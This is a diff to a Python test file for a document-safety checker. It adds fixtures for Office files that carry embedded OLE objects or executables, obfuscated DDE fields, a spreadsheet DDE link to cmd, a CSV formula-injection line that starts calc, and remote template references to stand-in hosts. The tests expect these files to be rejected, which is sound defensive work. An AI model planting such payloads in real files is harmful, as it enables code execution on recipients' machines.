@@ -23,10 +23,17 @@ def office(main_part, **more):
     return package(**{"[Content_Types].xml": types} | more)
 
 
+def word(**more):
+    return office("wordprocessingml.document.main+xml", **more)
+
+
 WORD = office("wordprocessingml.document.main+xml")
 EXCEL = office("spreadsheetml.sheet.main+xml")
 ODT = package(mimetype="application/vnd.oasis.opendocument.text")
 EXE = b"MZ\x90\x00" + b"\0" * 200
+OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 50
+FIELD = '<x:document xmlns:x="w"><x:fldChar x:fldCharType="begin"/>%s<x:fldChar x:fldCharType="end"/></x:document>'
+TEMPLATE = '<Relationships><Relationship Type="a/attachedTemplate" Target="%s" TargetMode="External"/></Relationships>'
 PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 50
 JPEG = b"\xff\xd8\xff\xe0" + b"\0" * 50
 
@@ -49,6 +56,9 @@ def by_name(value):
         ("figures.xlsx", EXCEL),
         ("talk.pptx", office("presentationml.presentation.main+xml")),
         ("procedure.odt", ODT),
+        # a template of the force's own, and a field that only numbers pages
+        ("procedure.docx", word(**{"word/_rels/s.rels": TEMPLATE % r"file:///\\force.example\templates\letter.dotx"})),
+        ("procedure.docx", word(**{"word/a.xml": FIELD % "<x:instrText> PAGE </x:instrText>"})),
         ("wall.png", PNG),
         ("wall.jpeg", JPEG),
         ("minutes.txt", "Agreed – all.".encode()),
@@ -85,6 +95,42 @@ def test_what_its_name_says_is_kept_and_left_at_its_beginning(name, content):
             "procedure.odt",
             package(**{"mimetype": "application/vnd.oasis.opendocument.text", "Basic/script.xml": "x"}),
             "procedure.odt carries macros.",
+        ),
+        (
+            "procedure.docx",
+            word(**{"word/media/image1.png": OLE}),
+            "carries an embedded object or macros. Save it without it",
+        ),
+        ("procedure.docx", word(**{"word/media/image1.png": EXE}), "procedure.docx carries a program."),
+        (
+            "procedure.docx",
+            word(
+                **{
+                    "word/a.xml": FIELD
+                    % "<x:instrText> D</x:instrText><x:t>1</x:t><x:instrText><![CDATA[DEAUTO c]]></x:instrText>"
+                }
+            ),
+            "carries a link that starts another program (DDE).",
+        ),
+        ("procedure.docx", word(**{"word/a.xml": FIELD % '<x:fldSimple x:instr="&#68;DE c"/>'}), "(DDE)."),
+        (
+            "figures.xlsx",
+            office(
+                "spreadsheetml.sheet.main+xml",
+                **{"xl/a.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'},
+            ),
+            "(DDE).",
+        ),
+        ("sample.csv", b"a,b\n" * 4000 + b"1,=cmd|' /C calc'!A0\n", "(DDE)."),
+        (
+            "procedure.docx",
+            word(**{"word/_rels/s.rels": TEMPLATE % "https://elsewhere.example/t.dotm"}),
+            "fetched from the web.",
+        ),
+        (
+            "procedure.docx",
+            word(**{"word/_rels/s.rels": TEMPLATE % r"\\elsewhere@SSL\t.dotm"}),
+            "fetched from the web.",
         ),
     ],
     ids=by_name,
